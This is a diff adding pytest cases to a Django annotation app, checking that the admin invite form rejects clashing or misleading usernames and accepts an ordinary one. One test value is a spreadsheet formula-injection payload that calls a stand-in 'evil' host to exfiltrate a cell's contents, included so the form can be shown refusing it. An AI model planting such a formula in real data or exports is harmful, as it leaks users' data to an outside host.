@@ -1,6 +1,7 @@
 """Admin pages act only on accounts with fewer rights than the actor's (one rule:
 annotation.roles.manageable_users): an admin-group member never takes over staff or a superuser."""
 
+import html
 import re
 
 import pytest
@@ -150,3 +151,34 @@ def test_a_set_password_link_still_works_while_the_rights_stay_the_same(client, 
     _set_password_with(client, link, "a-fresh-passphrase-1234")
     promo.refresh_from_db()
     assert promo.check_password("a-fresh-passphrase-1234")
+
+
+@pytest.mark.parametrize(
+    ("username", "said"),
+    [
+        ("Clin", "taken (as 'clin': usernames ignore case)"),
+        ("CLIN", "taken (as 'clin'"),
+        ("dora\tsmith", "may hold only letters, digits and @ . + - _"),
+        ('=HYPERLINK("http://evil/?"&A1)', "may hold only letters, digits"),
+        ("@SUM", "must start with a letter or a digit"),
+        ("-dora", "must start with a letter or a digit"),
+        ("d" * 151, "at most 150 characters"),
+        ("   ", "This field is required"),
+    ],
+)
+def test_invite_refuses_usernames_that_clash_or_could_mislead(
+    client, accounts, django_user_model, username, said
+):
+    client.force_login(accounts["admin"])
+    before = django_user_model.objects.count()
+    response = client.post(reverse("annotation:manage_invite"), {"username": username})
+    assert response.status_code == 422
+    assert said in html.unescape(response.content.decode())
+    assert django_user_model.objects.count() == before  # nothing half-made
+
+
+def test_invite_accepts_an_ordinary_new_username(client, accounts, django_user_model):
+    client.force_login(accounts["admin"])
+    response = client.post(reverse("annotation:manage_invite"), {"username": " dr.Lee-2 "})
+    assert response.status_code == 200
+    assert django_user_model.objects.filter(username="dr.Lee-2").exists()
